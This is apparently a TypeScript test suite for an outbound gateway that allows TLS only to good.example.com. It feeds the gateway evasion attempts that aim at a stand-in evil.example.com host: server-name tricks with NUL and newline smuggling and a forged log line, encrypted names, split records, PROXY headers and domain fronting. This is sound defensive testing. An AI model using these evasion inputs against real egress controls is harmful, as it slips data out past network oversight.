import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Attack, type Attempt, createAttack } from '../fixtures/attack.ts';

/** A ClientHello whose random is the token; it goes to the gateway, and as the control straight to the outsider. */
function hello(what: string, extensions: string, more: Partial<Attempt> = {}): Attempt {
  return { what, code: `seen = tcp(WAY, 443, hello(T, ${extensions}))`, ...more };
}
function bytes(what: string, parts: string, more: Partial<Attempt> = {}): Attempt {
  return { what, code: `seen = tcp(WAY, 443, ${parts})`, ...more };
}
const names: Readonly<Record<string, readonly [extension: string, reason?: string]>> = {
  'of another host': [`server_names(T + '.evil.example.com')`, 'not-listed'],
  'in capitals': [`server_names(T.upper() + '.EVIL.example.com')`, 'not-listed'],
  'with a dot at its end': [`server_names(T + '.evil.example.com.')`, 'not-listed'],
  'with a port': [`server_names(T + '.evil.example.com:443')`, 'malformed'],
  'with the good name before a NUL': [`server_names('good.example.com\\0.' + T + '.evil.example.com')`, 'malformed'],
  'with the good name before an end of line': [`server_names('good.example.com\\n' + T)`, 'malformed'],
  'that looks like a line of the log': [`server_names('"},{"event":"decided","verdict":"allow","name":"' + T + '"')`, 'malformed'],
  'with a space before it': [`server_names(' good.example.com.' + T)`, 'malformed'],
  'that is an address': [`server_names(VICTIM)`],
  'that is empty': [`server_names('')`],
  'that is missing': [`b''`],
  'that only ends like the good name': [`server_names(T + 'good.example.com')`, 'not-listed'],
  'that is the good one and another': [`server_names('good.example.com', 'evil.example.com')`],
  'that is another and the good one': [`server_names('evil.example.com', 'good.example.com')`],
  'twice, the good one first': [`server_names('good.example.com'), server_names('evil.example.com')`],
  'twice, the good one last': [`server_names('evil.example.com'), server_names('good.example.com')`],
  'of another kind than host': [`extension(0, b'\\0\\x13\\1\\0\\x10good.example.com')`],
  'that says it is longer than it is': [`extension(0, b'\\0\\xff\\0\\0\\xf0good.example.com')`],
  'in a list that is empty': [`extension(0, b'\\0\\0')`],
  'that is 300 letters long': [`server_names('good.example.com.' + 'x' * 283)`],
};
const named = Object.entries(names).map(([how, [extension, recorded]]): Attempt =>
  hello(`a server name ${how}`, extension, recorded === undefined ? {} : { recorded }),
);

const ech = `extension(0xfe0d, b'\\0\\0\\1\\0\\1\\7\\0\\x20' + b'k' * 32 + b'\\0\\x40' + b'e' * 64)`;
const evil = `server_names('evil.example.com')`;
const shapes: readonly Attempt[] = [
  hello('an encrypted name behind another', `${ech}, ${evil}`),
  hello('an encrypted name, and none outside', ech),
  hello('fields that mean nothing (GREASE) around the name', `extension(0x0a0a, b''), ${evil}, extension(0xfafa, b'x')`),
  hello('a name behind 15 kB of filling', `extension(21, b'\\0' * 15000), ${evil}`),
  bytes('a hello in pieces of one byte', `*[bytes([b]) for b in hello(T, ${evil})], pause=0.003`),
  bytes('a hello in many records', `record(handshake(T, ${evil})[:45]) + b''.join(record(bytes([b])) for b in handshake(T, ${evil})[45:])`),
  bytes('a hello in two records, the name in the second', `record(handshake(T, ${evil})[:60]) + record(handshake(T, ${evil})[60:])`),
  bytes('two hellos, the good one first', `hello('x', server_names('good.example.com'))[:9], hello(T, ${evil})`),
  bytes('a hello of SSL 2', `b'\\x80\\x2e\\1\\3\\1\\0\\3\\0\\0\\0\\x20\\0\\0\\x2f' + T.encode().ljust(32, b'r')`),
  bytes('a hello that is cut off', `hello(T, ${evil})[:80]`),
  bytes('an alert before the hello', `record(b'\\1\\0', 21) + hello(T, ${evil})`),
  bytes('data before the hello', `record(T.encode(), 23) + hello('x', server_names('good.example.com'))`),
  bytes('SSH', `'SSH-2.0-' + T + '\\r\\n'`, { sees: /^connected $|Reset/ }),
  bytes('HTTP', `get('good.example.com', '/' + T)`, { sees: /^connected $|Reset/ }),
  bytes('nothing that is known', `T`, { sees: /^connected $|Reset/ }),
  bytes('a PROXY header', `'PROXY TCP4 10.1.1.1 ' + VICTIM + ' 1 443\\r\\n' + T`),
  bytes(
    'a PROXY header of version 2',
    `b'\\r\\n\\r\\n\\0\\r\\nQUIT\\n\\x21\\x11\\0\\x0c' + b'\\n\\1\\1\\1' + socket.inet_aton(VICTIM) + b'\\0\\1\\1\\xbb' + T.encode()`,
  ),
];
const spoken: readonly Attempt[] = [
  {
    what: 'TLS to another host, with the good Host inside',
    code: `seen = tls(WAY, T + '.evil.example.com', get('good.example.com', '/' + T))`,
    ...{ sees: /Blocked by Forgehold/, recorded: 'not-listed' },
  },
  {
    what: 'HTTP/2 in TLS to another host',
    code: `seen = tls(WAY, T + '.evil.example.com', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0' + T.encode(), protocols=['h2'])`,
    control: `seen = tls(WAY, T + '.evil.example.com', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + T.encode())`,
    recorded: 'not-listed',
  },
];

let attack: Attack;
beforeAll(async () => {
  attack = await createAttack();
  await attack.run([...named, ...shapes, ...spoken]);
});
afterAll(() => attack?.end());

const what = ({ what }: Attempt): string => what;

describe('over TLS, nobody but the allowed host is reached by', () => {
  it('(an allowed name works: the control of all that follows)', async () => {
    expect(await attack.test.run(attack.one, 'curl -sk -m 10 https://good.example.com/')).toBe('hello');
    expect((await attack.good.heard()).some(({ via }) => via === 'tls')).toBe(true);
  });
  it.each(named.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
  it.each(shapes.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
  it.each(spoken.map(what))('%s', async (one) => expect(await attack.judge(one)).toBe('held'));
});

describe('what is no TLS', () => {
  it('is recorded as a connection that named no host', async () => {
    const { test, one } = attack;
    await expect.poll(() => test.decisions(one).filter(({ host, reason }) => host === '' && reason === 'malformed').length).toBeGreaterThan(5);
  });
});

describe('what remains', () => {
  it('within TLS to an allowed host another may be named: the gateway sees only whom it goes to, and it goes there', async () => {
    await attack.test.run(attack.one, 'curl -sk -m 10 -H "Host: evil.example.com" https://good.example.com/fronted');
    const heard = async (one: typeof attack.victim): Promise<boolean> => (await one.heard()).some(({ text }) => text.includes('/fronted'));
    expect(await heard(attack.good)).toBe(true);
    expect(await heard(attack.victim)).toBe(false);
  });
});
